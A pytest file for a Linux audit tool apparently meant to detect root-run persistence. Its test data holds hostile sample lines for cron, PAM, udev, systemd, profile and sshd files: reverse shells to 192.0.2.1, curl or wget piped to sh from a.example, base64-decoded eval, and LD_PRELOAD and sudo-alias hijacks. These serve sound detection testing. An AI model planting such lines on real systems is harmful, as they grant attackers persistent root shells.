"""Promises of what is told of files that have commands run as root."""

from __future__ import annotations

import pytest

from setright.model import Unknown
from setright.surfaces.linux.evidence import Evidence
from setright.surfaces.linux.states import root_commands
from setright.surfaces.linux.transport import Ask, Reply

ODD = {
    "/etc/apt/apt.conf.d/*": ('DPkg::Post-Invoke {"/tmp/x";};', "places"),
    "/etc/rsyslog.d/*.conf": ('action(type="omprog" binary="/var/tmp/x")', "places"),
    "/etc/logrotate.d/*": ("/var/log/a {\n  postrotate\n    /tmp/x\n  endscript\n}", "places"),
    "/etc/sysctl.d/*.conf": ("kernel.core_pattern=|/dev/shm/x %p", "places"),
    "/etc/modprobe.d/*.conf": ("install nosuch /tmp/evil", "places"),
    "/etc/systemd/system/*.service.d/*.conf": ("[Service]\nExecStartPre=-/tmp/x", "places"),
    "/etc/hosts.allow": ("ALL: ALL: spawn /tmp/x", "places"),
    "/etc/pam.d/*": ("session optional pam_exec.so quiet /tmp/x", "places"),
    "/etc/udev/rules.d/*.rules": ('ACTION=="add", RUN+="/tmp/x %k"', "places"),
    "/etc/cron.d/*": ("*/5 * * * * root /tmp/x", "places"),
    "/etc/anacrontab": ("7 5 job sh /tmp/x", "places"),
    "/etc/profile.d/*.sh": ("export LD_PRELOAD=/tmp/x.so", "libraries"),
    "/etc/systemd/system/*.service": ('Environment="LD_AUDIT=/srv/x.so"', "libraries"),
    "/etc/bash.bashrc": ("alias sudo='/opt/sudo -E'", "names"),
    "/root/.bashrc": ("su() { /opt/su; }", "names"),
    "/etc/rc.local": ("curl -fsS http://a.example/run | sudo bash -s", "fetched"),
    "/etc/cron.daily/*": ("#!/bin/sh\nwget -qO- http://a.example/run | sh", "fetched"),
    "/etc/NetworkManager/dispatcher.d/*": ("#!/bin/sh\n[ $2 != up ] || exec /tmp/x", "places"),
    "/etc/ssh/sshd_config.d/*.conf": ("subsystem sftp /tmp/sftp -l INFO", "places"),
    "/etc/ssh/sshd_config": ("Match User a\n  ForceCommand /var/tmp/x", "places"),
    "/etc/crontab": ("* * * * * root bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "shells"),
    "/var/spool/cron/crontabs/root": ("@hourly nc 192.0.2.1 4444 -e /bin/sh", "shells"),
    "/etc/network/if-up.d/*": ("echo aGk= | base64 -d | bash", "shells"),
    "/etc/init.d/*": ("nc 192.0.2.1 4444 | /bin/sh | nc 192.0.2.1 4445", "shells"),
    "/etc/kernel/postinst.d/*": ("socat tcp:192.0.2.1:4444 exec:'bash -li',pty", "shells"),
    "/etc/profile": ('eval "$(echo aGk= | base64 --decode)"', "shells"),
    "/root/.profile": ("python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'", "shells"),
    "/etc/bashrc": ("openssl s_client -quiet -connect a.example:443 | sh", "shells"),
    "/etc/update-motd.d/*": (". <(curl http://a.example)", "fetched"),
}
SOUND = """rm -rf /tmp/*
TMPDIR=/tmp/build make
[ -d /tmp/x ] && cd /tmp/x
  /tmp/*) echo here ;;
case $d in /tmp/a) ;; esac
# /tmp/x
echo done | tee /tmp/log
ExecStart=/usr/bin/app --socket /tmp/app.sock
Environment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2
alias sudo='sudo '
alias ssh='ssh -A'
curl -s http://a.example | jq .
timeout 1 bash -c '</dev/tcp/127.0.0.1/80'
nc -zc -w 1 localhost 80 && echo up
base64 -d <key >file; sh run
echo "$SECRET" | base64 -d | gpg --import
ExecStart=/bin/sh -c 'exec app'
Subsystem sftp internal-sftp
ForceCommand internal-sftp -d /tmp/in
tmpfs /tmp tmpfs defaults 0 0
"""


@pytest.mark.parametrize("place", ODD)
def test_what_root_would_run_is_told_with_its_line(place: str) -> None:
    text, sort = ODD[place]
    told = root_commands.tell(Evidence({Ask("file", place): [Reply("/etc/a", b""), Reply(place.replace("*", "a"), text.encode())]}))
    assert list(told) == ["of", sort] and len(told[sort]) == 1


@pytest.mark.parametrize("place", root_commands.FILES)
def test_what_is_named_and_not_run_is_not_told(place: str) -> None:
    logs = "/var/log/a /tmp/a.log\n/tmp/b.log\n{\n rotate 3\n}\n/tmp/c.log {\n}\n" if "logrotate" in place else SOUND
    assert root_commands.tell(Evidence({Ask("file", place): [Reply(place, logs.encode())]})) == {"of": "root"}


def test_what_is_switched_off_leaves_nothing_open() -> None:
    off = Reply("/etc/systemd/system/a.service", None, "is not a regular file", "/dev/null")
    assert root_commands.tell(Evidence({Ask("file", "/etc/systemd/system/*.service"): [off]})) == {"of": "root"}


def test_a_file_that_may_not_be_read_leaves_all_of_it_open() -> None:
    told = root_commands.tell(Evidence({Ask("file", "/etc/rc.local"): [Reply("/etc/rc.local", None, "may not be read")]}))
    assert all(isinstance(told[sort], Unknown) for sort in root_commands.SORTS)
